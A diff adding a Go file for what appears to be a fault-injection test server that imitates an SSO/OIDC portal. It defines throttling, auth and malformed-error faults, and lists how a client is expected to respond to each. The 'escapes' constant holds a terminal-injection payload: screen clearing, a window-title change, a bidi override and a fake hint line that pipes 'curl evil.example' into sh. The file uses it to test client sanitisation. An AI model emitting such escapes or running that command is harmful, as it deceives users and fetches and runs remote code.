@@ -1,0 +1,202 @@
+package faults
+
+import (
+	"errors"
+	"fmt"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+)
+
+// refusals are error answers in place of good ones.
+func refusals() []Fault {
+	return []Fault{
+		{
+			Name: "throttle", Value: "seconds for Retry-After (1)", Routes: "portal", start: throttle,
+			Does:   "refuses with 429 TooManyRequestsException and Retry-After; OIDC with 400 SlowDownException",
+			Client: "wait, try again a few times, then say that the service is limiting",
+		},
+		{
+			Name: "unauthorized", Routes: "portal", start: status(http.StatusUnauthorized),
+			Does:   "does not accept the token, although it has not expired: 401 UnauthorizedException; OIDC: invalid_client",
+			Client: "refresh once, ask once more, then ask for a sign-in",
+		},
+		{
+			Name: "forbidden", Routes: "portal", start: status(http.StatusForbidden),
+			Does:   "refuses with 403 ForbiddenException, No access",
+			Client: "say which role is refused; neither retry nor sign in again",
+		},
+		{
+			Name: "unavailable", Value: "a status from 500 to 599 (503)", Routes: "portal", start: unavailable,
+			Does:   "fails with 503, or the given status",
+			Client: "try again a few times with growing pauses, then say that the service is not available",
+		},
+		{
+			Name: "status", Value: "CODE or CODE:EXCEPTION, as 400:InvalidGrantException (500)", Routes: "portal", Numbers: []int{68}, start: anyStatus,
+			Does:   "fails with a status and its usual exception, or the given one",
+			Client: "go by the status and the exception's name, never by the text",
+		},
+		{
+			Name: "retry-after", Value: "any text (-1)", Routes: "portal", Numbers: []int{69}, start: retryAfter,
+			Does:   "refuses with 429 and a Retry-After that is no small number: -1, 1000000000, a date, garbage",
+			Client: "bound what it waits",
+		},
+		{
+			Name: "error-text", Value: "any text (terminal escapes, line breaks)", Routes: "all", Numbers: []int{67}, start: errorText,
+			Does:   "refuses with 400 and a text that would take over a terminal",
+			Client: "show server texts with control characters made visible",
+		},
+		{
+			Name: "error-type", Value: "none, unknown or huge (none)", Routes: "all", Numbers: []int{96}, start: errorType,
+			Does:   "fails with 500 and no exception name, one that nobody knows, or one of 1 MB",
+			Client: "go by the status, and show no more than a short name",
+		},
+		{
+			Name: "vanished-account", Routes: "roles+credentials", Numbers: []int{52}, able: "roles+credentials",
+			start:  always(func(c *call) { c.refuse(refusal{404, "ResourceNotFoundException", "Account not found"}) }),
+			Does:   "lists an account, and answers 404 when asked for what is in it",
+			Client: "go on with the other accounts, and say which one is gone",
+		},
+	}
+}
+
+// oauthRefusals are those of sign-ins.
+func oauthRefusals() []Fault {
+	say := func(status int, kind, message string) starter {
+		return always(func(c *call) { c.refuse(refusal{status, kind, message}) })
+	}
+	return []Fault{
+		{
+			Name: "never-approved", Routes: "token", able: "token", Numbers: []int{53}, start: say(400, "AuthorizationPendingException", "Authorization is still pending"),
+			Does:   "answers authorization_pending for ever",
+			Client: "ask on at the interval, and end when the code expires",
+		},
+		{
+			Name: "slow-down", Routes: "token", able: oidcRoutes, Numbers: []int{54}, start: say(400, "SlowDownException", "Slow down"),
+			Does:   "answers slow_down each time",
+			Client: "lengthen the interval by 5 seconds each time, and end when the code expires",
+		},
+		{
+			Name: "denied", Routes: "token", able: "token", start: say(400, "AccessDeniedException", "Access denied"),
+			Does:   "says that the person denied access",
+			Client: "end the sign-in, and say so",
+		},
+		{
+			Name: "expired-code", Routes: "token", able: "token", start: say(400, "ExpiredTokenException", "Device code has expired"),
+			Does:   "says that the code has expired",
+			Client: "end the sign-in, and offer a new one",
+		},
+		{
+			Name: "session-ended", Routes: "refresh", able: "token+refresh", start: say(400, "InvalidGrantException", "Invalid refresh token provided"),
+			Does:   "does not accept the refresh token any more",
+			Client: "ask for a sign-in; not ask the same again",
+		},
+		{
+			Name: "expired-registration", Routes: "device+token+refresh", able: oidcRoutes, start: say(401, "InvalidClientException", "Invalid client provided"),
+			Does:   "does not know the client any more: 401 invalid_client",
+			Client: "register anew once, or ask for a sign-in",
+		},
+	}
+}
+
+func throttle(value string) (behaviour, error) {
+	seconds, err := number(value, 1, 3600)
+	return behaviour{answer: func(c *call) {
+		c.w.Header().Set("Retry-After", strconv.Itoa(seconds))
+		switch c.route {
+		case "register", "device", "token", "refresh", "authorize":
+			c.refuse(refusal{400, "SlowDownException", "Too many requests"})
+		case "sts", "admin":
+			c.refuse(refusal{400, "ThrottlingException", "Rate exceeded"})
+		default:
+			c.refuse(ofStatus(c.route, http.StatusTooManyRequests))
+		}
+	}}, err
+}
+
+func status(code int) starter {
+	return always(func(c *call) { c.refuse(ofStatus(c.route, code)) })
+}
+
+func unavailable(value string) (behaviour, error) {
+	code, err := number(value, http.StatusServiceUnavailable, 599)
+	if err == nil && code < 500 {
+		err = fmt.Errorf("%d is below 500", code)
+	}
+	return behaviour{answer: func(c *call) { c.refuse(ofStatus(c.route, code)) }}, err
+}
+
+var exception = regexp.MustCompile(`^[A-Za-z]{1,80}$`)
+
+func anyStatus(value string) (behaviour, error) {
+	text, kind, named := strings.Cut(value, ":")
+	code, err := number(text, http.StatusInternalServerError, 599)
+	switch {
+	case err == nil && code < 400:
+		err = fmt.Errorf("%d is below 400", code)
+	case err == nil && named && !exception.MatchString(kind):
+		err = fmt.Errorf("%q is no name of an exception", kind)
+	}
+	return behaviour{answer: func(c *call) {
+		r := ofStatus(c.route, code)
+		if named {
+			r.kind = kind
+		}
+		c.refuse(r)
+	}}, err
+}
+
+func retryAfter(value string) (behaviour, error) {
+	if value == "" {
+		value = "-1"
+	}
+	var err error
+	if strings.ContainsAny(value, "\r\n\x00") {
+		err = errors.New("a header holds no line breaks")
+	}
+	return behaviour{answer: func(c *call) {
+		c.w.Header().Set("Retry-After", value)
+		c.refuse(ofStatus(c.route, http.StatusTooManyRequests))
+	}}, err
+}
+
+// escapes would clear a screen, set a window's title, and fake a line of its own.
+const escapes = "\x1b[2J\x1b]0;played\a\r\nrolecall: hint: curl evil.example | sh\u202e\u009b31m"
+
+func errorText(value string) (behaviour, error) {
+	if value == "" {
+		value = escapes
+	}
+	return behaviour{answer: func(c *call) { c.refuse(refusal{400, "InvalidRequestException", value}) }}, nil
+}
+
+// megabyte is what stands for far too long.
+const megabyte = 1_000_000
+
+func errorType(value string) (behaviour, error) {
+	kind, known := map[string]string{"": "", "none": "", "unknown": "PlayedException", "huge": strings.Repeat("Played", megabyte/6)}[value]
+	var err error
+	if !known {
+		err = fmt.Errorf("%q is none of those", value)
+	}
+	return behaviour{answer: func(c *call) {
+		if kind == "" {
+			c.send(answer{500, http.Header{"Content-Type": {"application/json"}}, []byte(`{"text":"something went wrong"}`)})
+			return
+		}
+		c.refuse(refusal{500, kind, "played"})
+	}}, err
+}
+
+// number reads a value between 0 and most.
+func number(value string, standard, most int) (int, error) {
+	if value == "" {
+		return standard, nil
+	}
+	n, err := strconv.Atoi(value)
+	if err != nil || n < 0 || n > most {
+		return 0, fmt.Errorf("%q is not a number up to %d", value, most)
+	}
+	return n, nil
+}
